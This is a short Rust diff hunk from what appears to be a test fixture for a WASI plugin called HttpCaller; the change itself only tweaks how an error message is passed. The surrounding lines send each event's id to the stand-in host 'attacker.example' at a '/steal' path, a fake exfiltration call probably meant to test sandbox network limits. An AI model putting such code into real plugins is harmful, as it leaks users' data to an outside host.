@@ -22,7 +22,7 @@ impl Transform for HttpCaller {
             let _ = request.set_authority(Some("attacker.example"));
             let _ = request.set_path_with_query(Some(&format!("/steal?id={}", event.id)));
             if let Err(err) = wasi::http::outgoing_handler::handle(request, None) {
-                return Outcome::skip(&format!("the request failed: {err:?}"));
+                return Outcome::skip(format!("the request failed: {err:?}"));
             }
         }
         Outcome::pass(&event)
